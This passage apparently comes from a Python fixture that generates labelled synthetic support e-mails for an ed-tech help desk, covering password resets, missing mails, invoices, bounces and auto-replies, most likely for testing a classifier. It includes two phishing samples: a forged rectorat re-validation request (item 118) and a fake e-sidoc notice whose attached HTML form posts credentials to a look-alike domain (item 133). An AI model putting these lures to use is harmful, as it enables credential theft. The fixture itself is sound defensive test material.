Avant que vous me parliez de MailInBlack : nous ne l'avons pas. Notre lycée passe par la messagerie académique standard et il n'y a aucun outil de ce type chez nous.

Pourtant, ni le mail de validation de mon compte ni les confirmations de commande ne m'arrivent, même pas dans les indésirables. J'ai fait deux demandes de renvoi la semaine dernière.

Ludovic Perrin
Gestionnaire, lycée Rémi-Belleau, Nogent-le-Rotrou
UAI 0282747J
"""))
label(103, "missing_noreply_mail", True, "0282747J", "centre-val-de-loire", "espace_acheteur", True, "fr",
      "Names MailInBlack only to say the school does NOT use it: missing_noreply_mail, not mailinblack_spam.")

mail(104, frm=("Morgan Rault", "morgan.rault.35@gmail.com"), client="gmail",
      subject="Fwd: Réinitialisation de votre mot de passe", dt=when(21, 8, 31),
      text=T("""
Bonjour,
je vous transfère le mail reçu ce matin : le lien affiche « lien invalide » alors que je l'ai ouvert tout de suite. Pouvez-vous m'en renvoyer un qui marche ?
Morgan Rault, gestionnaire collège Surcouf, Saint-Malo (0350091J)

---------- Forwarded message ---------
De : Espace Acheteur <no-reply@espace-acheteur.example.fr>
Date: ven. 21 nov. 2025 à 08:02
Subject: Réinitialisation de votre mot de passe
To: <morgan.rault@ac-rennes.fr>


Bonjour,

Vous avez demandé la réinitialisation de votre mot de passe. Cliquez sur le lien ci-dessous pour en choisir un nouveau (valable 12 heures) :
https://espace-acheteur.example.fr/reset/4XkP9mQa

Si vous n'êtes pas à l'origine de cette demande, ignorez ce message.
"""))
label(104, "password_reset", True, "0350091J", "bretagne", "espace_acheteur", False, "fr",
      "Gmail forward of the reset mail whose link says it is invalid; asks for a new link. Personal Gmail, region from the UAI.")

mail(105, frm=("Thomas Rigaud", "t.rigaud@mobilier-educatif-ouest.fr"), client="outlook",
      subject="Référencement fournisseur sur l'Espace Acheteur", dt=when(24, 10, 16),
      text=T("""
Bonjour,

Fabricant de mobilier scolaire basé à Vannes, nous souhaiterions être référencés comme fournisseur sur votre Espace Acheteur afin que les collèges et lycées de la région puissent nous commander directement.

Quelle est la procédure ? Faut-il répondre à un appel d'offres, et si oui quand est prévu le prochain ?

Bien cordialement,

Thomas Rigaud
Directeur commercial
Mobilier Éducatif de l'Ouest
"""))
label(105, "other", False, None, None, "espace_acheteur", False, "fr",
      "A supplier asks how to be listed on the Espace Acheteur: commercial question, no category of its own.")

mail(106, frm=("TOURNIER Élise", "elise.tournier@ac-aix-marseille.fr"), client="outlook",
      subject="Renouvellement Europresse : toujours affiché expiré", dt=when(24, 11, 2),
      text=T("""
Bonjour,

Nous avons renouvelé hier l'abonnement Europresse (bon de commande validé par l'intendance), mais dans « Mes abonnements » il apparaît encore comme expiré depuis le 31 octobre et les élèves ont un message d'erreur.

Est-ce que ça va se mettre à jour tout seul ?

Élise Tournier
Professeure documentaliste
Lycée Lumière - La Ciotat
UAI 0130368E
"""))
label(106, "subscription_activation", True, "0130368E", "provence-alpes-cote-d-azur", "esidoc", False, "fr",
      "Renewal ordered yesterday still shown as expired: within 72 hours.")

mail(107, frm=("Dominique Guidicelli", "dominique.guidicelli@ac-corse.fr"), client="zimbra",
      subject="Demande de devis - commande fournitures décembre", dt=when(24, 13, 48),
      text=T("""
Bonjour,

Pourriez-vous m'établir un devis pour la commande suivante, afin que je puisse créer le bon d'engagement :

- 40 ramettes de papier A4 80 g recyclé
- 12 cartouches de toner pour l'imprimante de la vie scolaire
- 6 boîtes de classeurs à levier

Établissement : collège de Lucciana, UAI 7200275K.
Livraison souhaitée avant le 12 décembre.

Cordialement,

Dominique Guidicelli
Secrétaire de gestion
"""))
label(107, "order_billing", False, None, "corse", "espace_acheteur", True, "fr",
      "Asks for a quote (devis) needed for the bon d'engagement. UAI typed 7200275K: wrong check letter (the digits give 7200275L), so no UAI; region from the ac-corse.fr domain.")

raw(108, [
    *transport("assistance@assistance-colleges29.fr", when(24, 14, 5), "other",
               mta=("glpi.assistance-colleges29.fr", "203.0.113.88")),
    "From: Assistance informatique des colleges <assistance@assistance-colleges29.fr>",
    f"To: {SUPPORT}",
    "Subject: " + eh("[Assistance collèges #041877] Accusé de réception : RE: [#SUP-118790] Transferts EcoleDirecte"),
    f"Date: {rfcdate(when(24, 14, 5, 12))}",
    f"Message-ID: <GLPI-41877.{R.randint(10**9, 10**10)}.{hexs(8)}@assistance-colleges29.fr>",
    f"In-Reply-To: {our_ref()}",
    "Auto-Submitted: auto-generated",
    "X-Auto-Response-Suppress: OOF, DR, RN, NRN, AutoReply",
    "X-Loop: assistance@assistance-colleges29.fr",
    "Precedence: bulk",
    "MIME-Version: 1.0"],
    text_part(T("""
Bonjour,

Votre demande a bien été enregistrée sous le numéro 041877.
Un technicien de l'assistance informatique des collèges la prendra en charge dans les meilleurs délais.

Merci de ne pas répondre à ce message : pour compléter votre demande, utilisez le portail de l'assistance.

Assistance informatique des collèges
"""), cte="quoted-printable"))
label(108, "automated", False, None, None, None, False, "fr",
      "Another help desk's automatic acknowledgement (Auto-Submitted, X-Loop, Precedence: bulk) of a message the desk sent it: answering would start a mail loop.")

mail(109, frm=("MASSON Corinne", "corinne.masson@ac-orleans-tours.fr"), client="outlook",
      subject="Convention de groupement ascenseurs : PDF vide", dt=when(24, 15, 36),
      text=T("""
Bonjour,

Dans l'Espace Acheteur, la convention de groupement « maintenance des ascenseurs 2026-2029 », que nous devons faire voter au conseil d'administration du 2 décembre, s'ouvre sur un PDF vide (0 Ko). J'ai essayé avec deux navigateurs.

Pourriez-vous la remettre en ligne ou me l'envoyer ?

Corinne Masson
Gestionnaire - Lycée Dessaignes, Blois
0410403R
"""))
label(109, "contract_documents", False, "0410403R", "centre-val-de-loire", "espace_acheteur", False, "fr",
      "Purchasing-group convention opens as an empty PDF.")

mail(110, frm=("BOUCHER Laetitia", "laetitia.boucher@ac-orleans-tours.fr"), client="outlook",
      subject="Code reçu sans avoir rien demandé - est-ce bien vous ?", dt=when(25, 7, 21),
      text=T("""
Bonjour,

J'ai reçu ce matin à 6 h 12 un mail de l'Espace Acheteur contenant un code de vérification à 6 chiffres, alors que je n'essayais pas de me connecter (j'étais encore chez moi).

Est-ce bien vous qui l'avez envoyé ? Quelqu'un essaie-t-il d'entrer sur mon compte ? Je n'ai communiqué le code à personne. Que dois-je faire ?

Laetitia Boucher
Adjointe gestionnaire
Lycée Grandmont - Tours
UAI 0370021X
"""))
label(110, "other", False, "0370021X", "centre-val-de-loire", "espace_acheteur", True, "fr",
      "Received a login code she did not ask for and fears someone is trying her account: a security question for a person. Not a lost password, not a missing mail.")

mail(111, frm=("Henri Bosc", "henri.bosc@ac-aix-marseille.fr"), client="thunderbird",
      subject="Mot de passe incorrect - portail e-sidoc", dt=when(25, 8, 40),
      charset="iso-8859-1",
      text=T("""
Bonjour,

Suite à la remise à zéro générale, je ne parviens plus à me connecter à l'administration de notre portail e-sidoc : « mot de passe incorrect ». Je ne me souviens plus de l'ancien mot de passe.

Merci de m'indiquer la marche à suivre.

Cordialement,

Henri Bosc
Professeur documentaliste
Collège Charles-de-Gaulle, Apt
UAI 0842847N
"""))
label(111, "password_reset", True, "0842847N", "provence-alpes-cote-d-azur", "esidoc", False, "fr",
      "Forgotten e-sidoc password; Thunderbird with an ISO-8859-1 8-bit body.")

mail(112, frm=("ROCCA Lucien", "lucien.rocca@ac-corse.fr"), client="outlook",
      subject="Liste blanche Mailinblack pour trois collèges", dt=when(25, 10, 3),
      text=T("""
Bonjour,

Je coordonne les gestionnaires de trois collèges du Sartenais. Depuis que la Collectivité a activé Mailinblack sur nos boîtes, les confirmations de commande de l'Espace Acheteur arrivent en quarantaine chez nous trois.

Pouvez-vous nous transmettre la procédure pour mettre vos adresses en liste blanche ?

Mon établissement : collège de Sartène, UAI 620 1168A.

Lucien Rocca
Gestionnaire
"""))
label(112, "mailinblack_spam", True, "6201168A", "corse", "espace_acheteur", False, "fr",
      "Order confirmations quarantined by Mailinblack in three schools; asks for the allow-list procedure. UAI typed with a space ('620 1168A').")

mail(113, frm=("Sarah Whitfield", "sarah.whitfield@gmail.com"), client="gmail",
      subject="Confirmation email never arrived", dt=when(25, 11, 15),
      text=T("""
Hi,

I registered on the Espace Acheteur yesterday for the bilingual school association I volunteer for. The page said a confirmation email had been sent, but it never arrived. I've checked spam and promotions.

Could you resend it?

Thanks,
Sarah
"""))
label(113, "missing_noreply_mail", True, None, None, "espace_acheteur", False, "en",
      "English; sign-up confirmation mail never arrived, spam checked, no product named.")

mail(114, frm=("Delphine Ollier", "d.ollier@sm-bassin-durance.fr"), client="outlook",
      subject="Structure introuvable lors de l'inscription", dt=when(25, 14, 25),
      text=T("""
Bonjour,

Lors de l'inscription sur l'Espace Acheteur, notre structure (syndicat mixte du bassin de la Durance, SIRET 200 034 981 00012) n'apparaît pas dans la liste déroulante et le formulaire refuse la saisie manuelle.

Comment faire pour créer notre compte ?

Cordialement,

Delphine Ollier
Responsable administrative et financière
"""))
label(114, "account_creation", False, None, None, "espace_acheteur", False, "fr",
      "The structure is missing from the sign-up list: needs the sales team, not the sign-up answer.")

_mdn115 = our_ref()
raw(115, [
    *transport("sandra.luciani@ac-corse.fr", when(25, 15, 2), "outlook"),
    "From: LUCIANI Sandra <sandra.luciani@ac-corse.fr>",
    "To: Assistance <support@assistance.example.fr>",
    "Subject: " + eh("Non lu : [#SUP-118805] Abonnement : ressource à publier"),
    "Date: Tue, 25 Nov 2025 14:02:18 +0000",
    f"Message-ID: <MRZP264MB{R.randint(1000, 9999)}{hexs(24, True)}@MRZP264MB2231.FRAP264.PROD.OUTLOOK.COM>",
    f"In-Reply-To: {_mdn115}",
    f"References: {_mdn115}",
    "Content-Language: fr-FR",
    "MIME-Version: 1.0"],
    multi("report", [
        text_part(T("""
Votre message

  À : LUCIANI Sandra
  Objet : [#SUP-118805] Abonnement : ressource à publier
  Date d'envoi : lundi 24 novembre 2025 16:40:51 (UTC+01:00) Bruxelles, Copenhague, Madrid, Paris

a été supprimé sans avoir été lu le mardi 25 novembre 2025 15:02:18 (UTC+01:00) Bruxelles, Copenhague, Madrid, Paris.
"""), "plain", "quoted-printable"),
        P(["Content-Type: message/disposition-notification"], T(f"""
Reporting-UA: MRZP264MB2231.FRAP264.PROD.OUTLOOK.COM; Microsoft Exchange Server
Final-Recipient: rfc822; sandra.luciani@ac-corse.fr
Original-Message-ID: {_mdn115}
Disposition: manual-action/MDN-sent-manually; deleted
"""))],
        boundary=f"_002_{hexs(24, True)}FRAP_", params=" report-type=disposition-notification;"))
label(115, "automated", False, None, "corse", None, False, "fr",
      "Outlook 'Non lu :' notice (deleted without being read), disposition-notification. Region from ac-corse.fr.")

_r116 = our_ref()
mail(116, frm=("DUMAS Corinne", "corinne.dumas@ac-orleans-tours.fr"), client="outlook",
      subject="RE: [#SUP-118650] Mot de passe Espace Acheteur", dt=when(25, 16, 9),
      in_reply_to=_r116,
      text=T("""
Merci, le mot de passe est réglé, je me suis reconnectée sans problème.

Par contre, maintenant que j'ai de nouveau accès à mes factures : celle de la commande EA-25-08790 est de 1 486,20 € TTC alors que le devis accepté était de 1 386,20 €. Il y a une ligne « frais de port » qui n'était pas prévue au devis.

Pouvez-vous corriger la facture ?

Corinne Dumas
Adjointe gestionnaire - Lycée Fulbert, Chartres
UAI 0282922Z

De : Assistance <support@assistance.example.fr>
Envoyé : lundi 24 novembre 2025 11:20
À : DUMAS Corinne <corinne.dumas@ac-orleans-tours.fr>
Objet : [#SUP-118650] Mot de passe Espace Acheteur

Bonjour,

Un lien de réinitialisation vous a été envoyé à l'adresse enregistrée pour votre compte. Il est valable 12 heures.

Cordialement,
L'équipe d'assistance
"""))
label(116, "order_billing", False, "0282922Z", "centre-val-de-loire", "espace_acheteur", True, "fr",
      "Reply on a password ticket: the password is solved and the new message clearly asks something else (invoice differs from the quote), so order_billing.")

_r117 = our_ref()
mail(117, frm=("Brigitte Le Gall", "brigitte.le-gall@ac-rennes.fr"), client="thunderbird",
      subject="Re: [#SUP-118811] Mot de passe e-sidoc", dt=when(25, 10, 44),
      in_reply_to=_r117,
      text=T("""
Bonjour,

Merci pour la réponse, mais le lien est parti sur l'adresse ce. du lycée, et depuis l'incident cette boîte fonctionnelle est toujours verrouillée : le secrétariat attend que le rectorat la réactive, sans date annoncée. Personne ne peut donc lire ce lien.

Comment faire autrement ?

Brigitte Le Gall
CDI

Le 25/11/2025 à 09:02, Assistance a écrit :
> Bonjour,
>
> Un lien de réinitialisation du mot de passe a été envoyé à l'adresse
> officielle de votre établissement (c***@ac-rennes.fr). Il est valable
> 12 heures.
>
> Cordialement,
> L'équipe d'assistance
"""))
label(117, "password_reset", False, None, "bretagne", "esidoc", True, "fr",
      "Reply after the automatic reset answer: the link went to the school's official mailbox, which is still locked since the incident. The automatic path has failed; a person must take over (head-of-establishment procedure). No UAI, region from ac-rennes.fr.")

mail(118, frm=("DSI - Rectorat", "dsi-securite@ac-aix-marseille.fr"), client="other",
      subject="Re-validation obligatoire de votre compte suite à l'incident", dt=when(25, 5, 17),
      to=SUPPORT_ADDR, auth=("none", "fail", "fail"), mta=("srv1.bulk-sender-eu.net", "203.0.113.54"),
      return_path="root@srv1.bulk-sender-eu.net",
      reply_to="dsi-securite@rectorat-aixmarseille-support.com",
      text=T("""
Madame, Monsieur,

Dans le cadre de la gestion de l'incident de sécurité, chaque compte doit être re-validé avant le 28 novembre. Les comptes non re-validés seront désactivés.

Re-valider mon compte : https://rectorat-aixmarseille-support.com/revalidation

Vous devrez saisir votre identifiant, votre mot de passe actuel et le code reçu par SMS.

La Direction des systèmes d'information
"""))
label(118, "other", False, None, "provence-alpes-cote-d-azur", None, True, "fr",
      "Phishing that forges an ac-aix-marseille.fr sender (SPF and DMARC fail, relay on a bulk host, Reply-To a look-alike domain): other. The region follows the mechanical rule (académie sender domain) even though the header is forged.")

_r119 = our_ref()
mail(119, frm=("Principal - Collège Roger-Vercel", "ce.0222292X@ac-rennes.fr"), client="zimbra",
      subject="Re: [#SUP-118720] Changement d'administrateur Espace Acheteur", dt=when(26, 8, 55),
      in_reply_to=_r119,
      text=T("""
Bonjour,

Comme demandé, je confirme par écrit : Mme Solenn Le Roux, adjointe gestionnaire, devient administratrice du compte Espace Acheteur du collège à la place de M. Hervé Daniel, muté au 1er novembre. Merci de supprimer les accès de M. Daniel.

Yvon Le Guen
Principal
Collège Roger-Vercel - Dinan

----- Mail original -----
De: "Assistance" <support@assistance.example.fr>
À: "Solenn Le Roux" <solenn.le-roux@ac-rennes.fr>
Cc: ce.0222292X@ac-rennes.fr
Envoyé: Mardi 25 Novembre 2025 14:31:07
Objet: [#SUP-118720] Changement d'administrateur Espace Acheteur

Bonjour,

Le changement d'administrateur d'une structure doit être demandé par écrit par le chef d'établissement. Pouvez-vous lui demander de nous écrire, de préférence depuis l'adresse officielle de l'établissement ?

Cordialement,
L'équipe d'assistance
"""))
label(119, "head_of_establishment_request", False, "0222292X", "bretagne", "espace_acheteur", False, "fr",
      "Reply (Zimbra 'Mail original' quote) in which the principal gives, from the ce.<UAI> address, the written request the desk asked for: change of administrator.")

mail(120, frm=("Mark Delaney", "it@nice-bilingual-academy.fr"), client="outlook_en",
      subject="EcoleDirecte transfer stuck since 12 November", dt=when(26, 10, 22),
      text=T("""
Hello,

Our timetables and grades have not been updated on EcoleDirecte since 12 November. In Charlemagne, the last transfer has been showing "en cours" (in progress) for two weeks, and new transfers queue up behind it.

We changed our firewall rules after a phishing incident that week, which may be related. What should we check on our side, and can you reset the stuck transfer?

Best,
Mark Delaney
IT Manager
Nice Bilingual Academy
"""))
label(120, "transfer_incident", False, None, None, "ecoledirecte", False, "en",
      "English; a transfer stuck 'en cours' for two weeks after firewall changes. Private school domain, no UAI.")

mail(121, frm=("Coralie Fournier", "coralie.fournier@ac-orleans-tours.fr"), client="thunderbird",
      subject="Abonnement commandé hier soir", dt=when(26, 8, 3),
      text=T("""
Bonjour,

Abonnement « Je bouquine » numérique commandé hier soir pour le CDI, pas encore visible dans e-sidoc ce matin. Je suppose qu'il faut un peu de délai ?

Bonne journée
Coralie Fournier, collège Jacques-Prévert, Saint-Jean-de-Braye - 0451522K
"""))
label(121, "subscription_activation", True, "0451522K", "centre-val-de-loire", "esidoc", False, "fr",
      "Subscription ordered last night, not yet visible: within 72 hours.")

mail(122, frm=("Gilles Roussel", "gilles.roussel@ac-nice.fr"), client="thunderbird",
      subject="identifiant refusé", dt=when(26, 9, 36),
      text=T("""
Bonjour,

Identifiant refusé sur l'Espace Acheteur depuis ce matin (« compte inconnu »). J'ai peut-être mal retenu l'identifiant : est-ce l'adresse mail ou le code UAI ? Du coup pour le mot de passe je ne suis plus sûr non plus.

Collège Alphonse-Karr, Saint-Raphaël, 0832612N.

Merci,
Gilles Roussel
"""))
label(122, "password_reset", True, "0832612N", "provence-alpes-cote-d-azur", "espace_acheteur", False, "fr",
      "Unsure of the login and of the password: lost identifier and password, the reset answer covers both.")

raw(123, [
    "Return-Path: <>",
    f"Delivered-To: {SUPPORT_ADDR}",
    f"Received: from mail.ogec-bastia.fr (mail.ogec-bastia.fr [203.0.113.205])\n\tby {MX} (Postfix) with ESMTP id 4{alnum(12)}\n\tfor <{SUPPORT_ADDR}>; Wed, 26 Nov 2025 11:50:31 +0100 (CET)",
    f"Authentication-Results: {MX};\n\tdkim=none;\n\tspf=none smtp.helo=mail.ogec-bastia.fr;\n\tdmarc=none",
    "From: Mail Delivery System <Mailer-Daemon@mail.ogec-bastia.fr>",
    f"To: {SUPPORT_ADDR}",
    "Subject: Mail delivery failed: returning message to sender",
    "Date: Wed, 26 Nov 2025 11:50:30 +0100",
    f"Message-ID: <E1vO{alnum(10)}-000{R.randint(100, 999)}-3x@mail.ogec-bastia.fr>",
    "X-Failed-Recipients: econome@ogec-bastia.fr",
    "MIME-Version: 1.0"],
    text_part(T("""
This message was created automatically by mail delivery software.

A message that you sent could not be delivered to one or more of its
recipients. This is a permanent error. The following address(es) failed:

  econome@ogec-bastia.fr
    retry timeout exceeded

------ This is a copy of the message, including all the headers. ------

Return-path: <support@assistance.example.fr>
Received: from mx1.assistance.example.fr ([198.51.100.2])
	by mail.ogec-bastia.fr with esmtps (TLS1.3)
	id 1vNxQ2-0004Fh-1a
	for econome@ogec-bastia.fr; Mon, 24 Nov 2025 11:48:02 +0100
From: Assistance <support@assistance.example.fr>
To: econome@ogec-bastia.fr
Subject: [#SUP-118760] Votre facture Chorus Pro
Date: Mon, 24 Nov 2025 11:48:00 +0100
Message-ID: <SUP-118760.1763981280.2b7d0c@assistance.example.fr>
Auto-Submitted: auto-replied

Bonjour,

Votre demande a bien été enregistrée. Un conseiller vous répondra dans les meilleurs délais.

L'équipe d'assistance
"""), "plain", "8bit", "utf-8", quote_cs=False))
label(123, "automated", False, None, None, None, True, "en",
      "Exim bounce as plain text (no multipart/report, no Auto-Submitted on the bounce itself): only the null Return-Path, the Mailer-Daemon sender and X-Failed-Recipients show it is automatic.")

mail(124, frm=("Gaïd Le Nestour", "gaid.le-nestour@ac-rennes.fr"), client="zimbra",
      subject="Plus de notifications de suggestions d'achat", dt=when(26, 13, 12),
      text=T("""
Bonjour,

Le portail e-sidoc envoyait jusqu'ici un mail automatique à l'adresse du CDI à chaque nouvelle suggestion d'achat des élèves. Depuis la reprise du 3 novembre, plus rien, alors que les suggestions apparaissent bien dans l'administration. Indésirables vérifiés.

Merci,
Gaïd Le Nestour
Collège Le Verger, Auray - UAI 0560560E
"""))
label(124, "missing_noreply_mail", True, "0560560E", "bretagne", "esidoc", False, "fr",
      "Automatic notification mails from the portal stopped arriving; junk checked, no product named.")

mail(125, frm=("Ghjulia Paoli", "ghjulia.paoli@ac-corse.fr"), client="samsung",
      subject="Re: [#SUP-118812] Abonnement Cafeyn", dt=when(26, 14, 40),
      in_reply_to=our_ref(),
      text=T("""
Bien reçu, merci.

Envoyé depuis mon appareil Galaxy
"""))
label(125, "other", False, None, "corse", "esidoc", False, "fr",
      "'Bien reçu, merci' from a phone on a subscription ticket: nothing to do. Region from ac-corse.fr.")

# ==========================================================================
# h126 - h150
# ==========================================================================

mail(126, frm=("BLANC Éric", "eric.blanc@ac-aix-marseille.fr"), client="outlook",
      subject="Mail d'activation jamais reçu - nouveau filtre", dt=when(26, 15, 50),
      text=T("""
Bonjour,

Le rectorat nous a installé un nouveau filtre anti-spam sur les boîtes de l'établissement. Depuis, quand un expéditeur inconnu nous écrit, il reçoit un message lui demandant de cliquer sur un lien pour prouver qu'il n'est pas un robot, et tant qu'il ne l'a pas fait, son message reste bloqué chez nous.

Je pense que c'est pour ça que je n'ai jamais reçu votre mail d'activation : une adresse no-reply ne risque pas de cliquer !

Comment faire ?

Éric Blanc
Adjoint gestionnaire - Lycée Dominique-Villars, Gap
UAI 0051915E
"""))
label(126, "mailinblack_spam", False, "0051915E", "provence-alpes-cote-d-azur", "espace_acheteur", True, "fr",
      "The sender-authentication challenge is described (unknown senders must click to prove they are not robots) without naming MailInBlack: mailinblack_spam, but the product is not confirmed, so a person should check before sending the guide.")

mail(127, frm=("Priya Nair", "finance@sophia-international-school.fr"), client="outlook_en",
      subject="Invoice for order EA-25-09310 - we are not on Chorus Pro", dt=when(26, 16, 31),
      text=T("""
Hello,

We are a private school, so we do not use Chorus Pro. Could the invoice for order EA-25-09310 be emailed to finance@sophia-international-school.fr instead, with our purchase order number PO-2025-118 on it? Our auditors will not accept it otherwise.

Many thanks,

Priya Nair
Finance Officer
Sophia International School
"""))
label(127, "order_billing", False, None, None, "espace_acheteur", False, "en",
      "English; a private school asks for the invoice to be sent by e-mail with its PO number instead of Chorus Pro.")

mail(128, frm=("Nicolas Perrot", "nicolas.perrot2@ac-orleans-tours.fr"), client="zimbra",
      subject="Avenant de prolongation introuvable - produits d'entretien", dt=when(27, 8, 20),
      text=T("""
Bonjour,

Le marché de fourniture de produits d'entretien arrivait à échéance le 31 octobre. Le fournisseur continue de livrer en nous disant qu'un avenant de prolongation de six mois a été signé par le coordonnateur du groupement.

Je ne trouve pas cet avenant dans « Mes marchés », où le marché apparaît même comme « terminé ». Pouvez-vous vérifier et mettre l'avenant en ligne ? Sans lui, l'agent comptable bloquera les factures.

Nicolas Perrot
Gestionnaire
Lycée Jacques-Cœur - Bourges
UAI 0180384V
"""))
label(128, "contract_documents", False, "0180384V", "centre-val-de-loire", "espace_acheteur", False, "fr",
      "An extension amendment (avenant de prolongation) is missing; the market shows as ended.")

raw(129, [
    *transport("newsletter@fournitures-pro-education.fr", when(27, 6, 0), "other",
               mta=("mta-14.emailing-fpe.fr", "198.51.100.214"),
               return_path="bounce-fpe-20251127@emailing-fpe.fr"),
    "From: =?utf-8?q?Fournitures_Pro_=C3=89ducation?= <newsletter@fournitures-pro-education.fr>",
    f"To: {SUPPORT_ADDR}",
    "Subject: " + eh("Black Friday : -30 % sur le mobilier de CDI 📚"),
    f"Date: {rfcdate(when(27, 6, 0, 0))}",
    f"Message-ID: <nl-20251127.{hexs(12)}@emailing-fpe.fr>",
    "List-Id: <newsletter.fournitures-pro-education.fr>",
    "List-Unsubscribe: <https://emailing-fpe.fr/u/8f1c2a>, <mailto:unsubscribe@emailing-fpe.fr?subject=8f1c2a>",
    "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
    "Precedence: bulk",
    "Feedback-ID: nl1127:fpe:emailing",
    "MIME-Version: 1.0"],
    multi("alternative", [
        text_part(T("""
Black Friday chez Fournitures Pro Éducation

-30 % sur tout le mobilier de CDI jusqu'au 1er décembre : bacs à albums, présentoirs, poufs, tables modulables.
Commandes acceptées sur bon de commande administratif et via Chorus Pro.

Voir les offres : https://fournitures-pro-education.fr/black-friday

Se désinscrire : https://emailing-fpe.fr/u/8f1c2a
"""), "plain", "quoted-printable"),
        text_part(T("""
<html><body style="margin:0;background:#f2f2f2"><table width="600" align="center" style="background:#fff;font-family:Arial">
<tr><td style="background:#111;color:#ffd400;font-size:26px;padding:18px;text-align:center"><b>BLACK FRIDAY</b></td></tr>
<tr><td style="padding:18px">-30 % sur tout le mobilier de CDI jusqu'au 1er décembre : bacs à albums, présentoirs, poufs, tables modulables.<br>Commandes acceptées sur bon de commande administratif et via Chorus Pro.</td></tr>
<tr><td style="text-align:center;padding:12px"><a href="https://fournitures-pro-education.fr/black-friday">Voir les offres</a></td></tr>
<tr><td style="font-size:10px;color:#999;padding:10px"><a href="https://emailing-fpe.fr/u/8f1c2a">Se désinscrire</a></td></tr>
</table></body></html>
"""), "html", "quoted-printable")]))
label(129, "automated", False, None, None, None, False, "fr",
      "Supplier marketing newsletter: List-Id, one-click List-Unsubscribe, Precedence: bulk.")

mail(130, frm=("Jean-Paul Vincensini", "jean-paul.vincensini@ac-corse.fr"), client="apple",
      subject="Trop de mots de passe…", dt=when(27, 9, 5),
      text=T("""
Bonjour,

Entre le nouveau mot de passe académique, le code de la double authentification et celui du portail, je m'y perds : e-sidoc refuse désormais mon mot de passe d'administration et je ne sais plus lequel j'avais choisi.

Pourriez-vous m'aider à le réinitialiser ?

Bien cordialement,

Jean-Paul Vincensini
Professeur documentaliste
Lycée Giocante-de-Casabianca, Bastia
UAI 7200995U
"""))
label(130, "password_reset", True, "7200995U", "corse", "esidoc", False, "fr",
      "Forgotten e-sidoc admin password amid the académie's new password and double authentication; Apple Mail.")

mail(131, frm=("ARNOUX Carole", "carole.arnoux@ac-aix-marseille.fr"), client="outlook_html",
      subject="Ouverture d'un compte client", dt=when(27, 10, 11),
      html_only=True, cte="quoted-printable",
      html=T("""
<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style></head>
<body dir="ltr">
<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)">Bonjour,</div>
<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)"><br></div>
<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)">Je suis la nouvelle gestionnaire du collège Les Six-Vallées à Veynes (UAI 0051030T). Nous souhaitons commander pour la première fois des ressources numériques pour le CDI via votre boutique en ligne, mais il semble que l'établissement n'ait pas encore de compte client.</div>
<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)"><br></div>
<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)">Comment l'ouvrir ?</div>
<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)"><br>Merci par avance,<br><br><b>Carole Arnoux</b><br>Gestionnaire<br>Collège Les Six-Vallées - Veynes</div>
</body></html>
"""))
label(131, "account_creation", True, "0051030T", "provence-alpes-cote-d-azur", "esidoc", False, "fr",
      "HTML-only Outlook message: a new gestionnaire wants to open the customer account before a first order of e-sidoc resources.")

mail(132, frm=("Proviseur - Lycée Maurice-Genevoix", "ce.0451903Z@ac-orleans-tours.fr"), client="zimbra",
      subject="Autorisation de commande - renouvellement tablettes", dt=when(27, 11, 40),
      text=T("""
Madame, Monsieur,

J'autorise par la présente Mme Sabine Colin, gestionnaire, à valider la commande de renouvellement du parc de tablettes (commande EA-25-09377, 18 240 € TTC) passée sur l'Espace Acheteur pour le lycée (UAI 0451903Y).

Ce montant excédant sa délégation, je vous prie de considérer ce message comme mon accord écrit.

Philippe Renaud
Proviseur
Lycée Maurice-Genevoix - Ingré
"""))
label(132, "head_of_establishment_request", False, "0451903Z", "centre-val-de-loire", "espace_acheteur", True, "fr",
      "Written authorisation of an order by the proviseur. The body gives 0451903Y (wrong check letter; the digits give 0451903Z), but the sender address ce.0451903Z@ac-orleans-tours.fr carries the valid UAI, which is the label.")

mail(133, frm=("e-sidoc Assistance", "assistance@esidoc-portail-maj.com"), client="other",
      subject="Votre portail documentaire sera désactivé le 30/11/2025", dt=when(27, 3, 48),
      to=SUPPORT_ADDR, auth=("none", "fail", "none"), mta=("mail.esidoc-portail-maj.com", "203.0.113.71"),
      attach=[P(['Content-Type: text/html; name="Formulaire_mise_a_jour.htm"',
                 'Content-Disposition: attachment; filename="Formulaire_mise_a_jour.htm"',
                 "Content-Transfer-Encoding: base64"],
                base64.encodebytes("<html><body><form action='https://esidoc-portail-maj.com/p.php' method='post'>Identifiant <input name='u'> Mot de passe <input name='p' type='password'><input type='submit' value='Valider'></form></body></html>".encode()))],
      text=T("""
Bonjour,

Votre portail documentaire sera désactivé le 30/11/2025 faute de mise à jour de vos informations de connexion après l'incident de sécurité.

Pour conserver l'accès, ouvrez le formulaire joint et saisissez votre identifiant et votre mot de passe actuels.

Cordialement,
L'assistance e-sidoc
"""))
label(133, "other", False, None, None, None, True, "fr",
      "Phishing imitating e-sidoc support with an HTML credential form attached, look-alike domain, SPF fail: other; no platform since it is not the real product.")

mail(134, frm=("Audrey Sanchez", "secretariat@cours-saint-louis-marseille.fr"), client="outlook",
      subject="Licence expirée - transferts suspendus", dt=when(27, 8, 2),
      text=T("""
Bonjour,

Ce matin au lancement de Charlemagne : « Votre licence a expiré, les transferts sont suspendus ». Nous avons pourtant renouvelé le contrat en septembre.

Pouvez-vous nous envoyer une nouvelle licence ?

Cours Saint-Louis, Marseille - UAI 0132473T
Merci.
Audrey Sanchez, secrétariat
"""))
label(134, "transfer_incident", False, "0132473T", "provence-alpes-cote-d-azur", "ecoledirecte", False, "fr",
      "'Licence expirée' at start-up: licence to regenerate, transfers stopped.")

mail(135, frm=("Julien Marchand", "julien.marchand.36@gmail.com"), client="gmail",
      subject="Mail d'activation du compte client", dt=when(27, 13, 25),
      text=T("""
Bonjour,

J'ai créé hier le compte client de l'établissement pour passer notre première commande en ligne. On m'annonçait un mail d'activation « dans les 12 heures » : rien reçu à ce jour, ni dans les spams de ma boîte perso ni sur l'adresse du collège.

